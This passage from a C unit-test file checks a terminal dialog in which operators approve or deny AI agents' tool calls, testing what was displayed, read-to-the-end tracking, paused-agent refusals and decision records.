    const struct display *d = &k.out.command.display;
    assert_true(d->shown && !d->to_end);
    assert_int_equal(d->ms, 12400);
    assert_int_equal(d->cols, 100);
    assert_int_equal(d->rows, 30);
    assert_int_equal(d->risk, RISK_HIGH);
    kit_release(&k);
}

static void only_what_was_seen_to_its_end_is_told_so(void **state)
{
    struct kit k;
    (void)state;
    start(&k, RISK_LOW, CLEAN);
    open_dialog(&k);
    pass_ms(&k, LOW_MS);
    assert_int_equal(press(&k, 'a'), INTENT_COMMAND);
    assert_true(k.out.command.display.shown && k.out.command.display.to_end);
    assert_int_equal(k.out.command.display.ms, LOW_MS);
    kit_release(&k);
}

static int64_t told_after(struct kit *k)
{
    assert_int_equal(press(k, 'd'), INTENT_NONE);
    assert_int_equal(press(k, KEY(ENTER)), INTENT_COMMAND);
    return k->out.command.display.shown ? k->out.command.display.ms : -1;
}

static void what_was_not_on_the_screen_does_not_count(void **state)
{
    struct kit k;
    (void)state;
    start(&k, RISK_LOW, CLEAN); /* from the list */
    draw(&k);
    assert_int_equal(told_after(&k), -1);
    kit_release(&k);

    start(&k, RISK_LOW, CLEAN); /* opened, and never drawn */
    assert_int_equal(press(&k, 'a'), INTENT_FLUSH_KEYS);
    pass_ms(&k, 5000);
    assert_int_equal(told_after(&k), -1);
    kit_release(&k);

    start(&k, RISK_LOW, CLEAN); /* the terminal did not take it */
    open_dialog(&k);
    pass_ms(&k, 5000);
    ui_frame_lost(k.ui, k.now);
    draw(&k);
    pass_ms(&k, 700);
    assert_int_equal(told_after(&k), 700);
    kit_release(&k);

    start(&k, RISK_LOW, CLEAN); /* another text */
    open_dialog(&k);
    pass_ms(&k, 5000);
    request_add(&k, "lab",
                &(struct a_request){.agent = "agent/1",
                                    .id = "01A",
                                    .tool = "Bash",
                                    .action = "{\"command\":\"other\"}",
                                    .risk = RISK_LOW});
    draw(&k);
    pass_ms(&k, 900);
    assert_int_equal(told_after(&k), 900);
    kit_release(&k);

    start(&k, RISK_LOW, CLEAN); /* a screen too small to show it */
    open_dialog(&k);
    pass_ms(&k, 5000);
    canvas_resize(&k.c, 20, 5);
    draw(&k);
    canvas_resize(&k.c, 90, 24);
    draw(&k);
    pass_ms(&k, 300);
    assert_int_equal(told_after(&k), 300);
    assert_int_equal(k.out.command.display.cols, 90);
    kit_release(&k);
}

static void order(struct kit *k, enum verb v, const char *digest, bool to_end)
{
    begin(k, "lab", EVENT_OPERATOR_COMMAND, 0);
    text(k, F_COMMAND_ID, "01CMD");
    number(k, F_VERB, v);
    text(k, F_APPROVAL_ID, "01A");
    text(k, F_DISPLAY_DIGEST, digest);
    number(k, F_DISPLAY_COLS, 120);
    number(k, F_DISPLAY_ROWS, 40);
    number(k, F_DISPLAY_MS, 12400);
    number(k, F_DISPLAY_TO_END, to_end);
    number(k, F_DISPLAY_RISK, RISK_LOW);
    fold(k);
    begin(k, "lab", EVENT_OPERATOR_RESULT, 0);
    text(k, F_COMMAND_ID, "01CMD");
    number(k, F_COMMAND_STATE, COMMAND_CONFIRMED);
    fold(k);
}

static void look_at_decided(struct kit *k)
{
    press(k, '2');
    draw(k);
    press(k, 'g');
    assert_int_equal(press(k, KEY(ENTER)), INTENT_FLUSH_KEYS);
}

static void a_decided_request_opens_with_what_was_known(void **state)
{
    struct kit k;
    (void)state;
    start(&k, RISK_LOW, CLEAN);
    order(&k, VERB_APPROVE, A_DIGEST, true);
    request_resolve(&k, "lab", "01A", DECISION_APPROVED, "uid:0", "looks right");
    look_at_decided(&k);
    assert_shows(&k, "decided ─ low risk");
    assert_shows(
        &k,
        "approved by uid:0 after 12.4 s on a screen of 120x40, to its end, sha256 4f1c9a0b12cd…");
    assert_shows(&k, "looks right");
    assert_shows(&k, "make clean");
    assert_shows(&k, "it waited 22.0 s");
    for (const char *key = "adDELsx"; *key != '\0'; key++) {
        nothing_sent(&k, (uint32_t)*key);
    }
    kit_release(&k);

    start(&k, RISK_HIGH, CLEAN);
    order(&k, VERB_DENY,
          "sha256:"
          "0000000000000000000000000000000000000000000000000000000000000000",
          false);
    request_resolve(&k, "lab", "01A", DECISION_DENIED, "uid:0", "no");
    look_at_decided(&k);
    assert_shows(
        &k, "denied by uid:0 on ANOTHER TEXT, sha256 000000000000…, after 12.4 s on a screen ");
    kit_release(&k);
}

/* An order that was not the one that was taken says nothing of the decision. */
static void a_decision_of_others_is_not_ours(void **state)
{
    struct kit k;
    (void)state;
    start(&k, RISK_LOW, CLEAN);
    order(&k, VERB_APPROVE, A_DIGEST, true);
    request_resolve(&k, "lab", "01A", DECISION_DENIED, "m.ito", "");
    look_at_decided(&k);
    assert_shows(&k, "denied by m.ito");
    assert_hides(&k, "screen of 120x40");
    kit_release(&k);
}

/* It would be refused there; it can be read, and denied. */
static void what_is_paused_is_not_approved(void **state)
{
    struct kit k;
    (void)state;
    start(&k, RISK_LOW, CLEAN);
    agent_state(&k, "lab", "agent/1", AGENT_PAUSED);
    draw(&k);
    pass_ms(&k, 2000);
    open_dialog(&k);
    pass_ms(&k, HIGH_MS);
    nothing_sent(&k, 'a');
    assert_shows(&k, "cannot be approved: the agent is paused: resume it first");
    agent_state(&k, "lab", "agent/1", AGENT_PAUSING);
    draw(&k);
    pass_ms(&k, HIGH_MS);
    nothing_sent(&k, 'a');
    assert_shows(&k, "cannot be approved: the agent is being paused: resume it first");
    agent_state(&k, "lab", "agent/1", AGENT_WAITING_APPROVAL);
    draw(&k);
    pass_ms(&k, HIGH_MS);
    assert_int_equal(press(&k, 'a'), INTENT_COMMAND);
    assert_approves(&k);
    kit_release(&k);
}

static void pause_agent(struct kit *k)
{
    agent_state(k, "lab", "agent/1", AGENT_PAUSED);
    draw(k);
}

/* Whoever presses at what cannot be approved has not read that it can. */
static void what_could_not_be_approved_is_armed_anew(void **state)
{
    typedef void step(struct kit * k);
    static step *const ORDERS[][2] = {
        {open_dialog, pause_agent},
        {pause_agent, open_dialog}
    };
    (void)state;
    for (size_t i = 0; i < ARRAY_LEN(ORDERS); i++) {
        struct kit k;
        start(&k, RISK_LOW, CLEAN);
        ORDERS[i][0](&k);
        ORDERS[i][1](&k);
        pass_ms(&k, HIGH_MS);
        agent_state(&k, "lab", "agent/1", AGENT_WAITING_APPROVAL);
        nothing_sent(&k, 'a');
        assert_shows(&k, "approve once: armed in 1 s");
        pass_ms(&k, LOW_MS);
        assert_int_equal(press(&k, 'a'), INTENT_COMMAND);
        assert_approves(&k);
        kit_release(&k);
    }
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(an_answer_tells_what_was_displayed),
        cmocka_unit_test(only_what_was_seen_to_its_end_is_told_so),
        cmocka_unit_test(what_was_not_on_the_screen_does_not_count),
        cmocka_unit_test(a_decided_request_opens_with_what_was_known),
        cmocka_unit_test(a_decision_of_others_is_not_ours),
        cmocka_unit_test(what_is_granted_is_chosen_and_shown),
        cmocka_unit_test(where_only_once_is_offered_the_key_says_so),
        cmocka_unit_test(low_risk_is_two_keys_and_a_wait),
        cmocka_unit_test(type_ahead_does_nothing),
        cmocka_unit_test(nothing_is_approved_that_was_not_drawn),
        cmocka_unit_test(high_risk_needs_the_word),
        cmocka_unit_test(unknown_risk_is_high),
        cmocka_unit_test(high_risk_must_be_read_to_the_end),
        cmocka_unit_test(jumping_over_lines_is_told),
        cmocka_unit_test(low_risk_may_accept_unseen_lines),
        cmocka_unit_test(a_changed_request_is_read_again),
        cmocka_unit_test(unseen_lines_are_accepted_again_after_a_change),
        cmocka_unit_test(what_cannot_be_shown_whole_is_not_approved),
        cmocka_unit_test(nothing_is_approved_under_a_fleet_stop),
        cmocka_unit_test(nothing_is_decided_on_a_screen_too_small),
        cmocka_unit_test(hidden_secrets_are_told_of),
        cmocka_unit_test(a_call_without_a_word_is_known_by_its_digest),
        cmocka_unit_test(the_frame_holds_on_the_smallest_screen),
        cmocka_unit_test(a_change_drops_the_word_half_typed),
        cmocka_unit_test(what_disturbs_disarms),
        cmocka_unit_test(a_resize_hides_the_end_again),
        cmocka_unit_test(a_frame_that_was_not_delivered_shows_nothing),
        cmocka_unit_test(a_lost_frame_hides_the_end_again),
        cmocka_unit_test(rows_that_come_do_not_take_the_key),
        cmocka_unit_test(a_request_that_goes_leaves_nothing_under_the_key),
        cmocka_unit_test(a_selection_that_nobody_made_takes_no_orders_yet),
        cmocka_unit_test(tells_the_life_of_an_answer),
        cmocka_unit_test(tells_a_refusal_and_why),
        cmocka_unit_test(tells_what_could_not_be_sent),
        cmocka_unit_test(a_lost_race_tells_who_won),
        cmocka_unit_test(an_answer_on_its_way_is_followed),
        cmocka_unit_test(what_cannot_be_bound_is_not_approved),
        cmocka_unit_test(a_dead_back_end_is_not_answered),
        cmocka_unit_test(denies_at_once),
        cmocka_unit_test(a_denial_is_bound_to_its_request),
        cmocka_unit_test(esc_closes_and_forgets),
        cmocka_unit_test(a_dialog_swallows_the_view_keys),
        cmocka_unit_test(the_first_lines_never_move),
        cmocka_unit_test(opens_from_each_place),
        cmocka_unit_test(nothing_opens_by_itself),
        cmocka_unit_test(what_is_paused_is_not_approved),
        cmocka_unit_test(what_could_not_be_approved_is_armed_anew),
        cmocka_unit_test(scrolling_a_long_call_is_quick),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
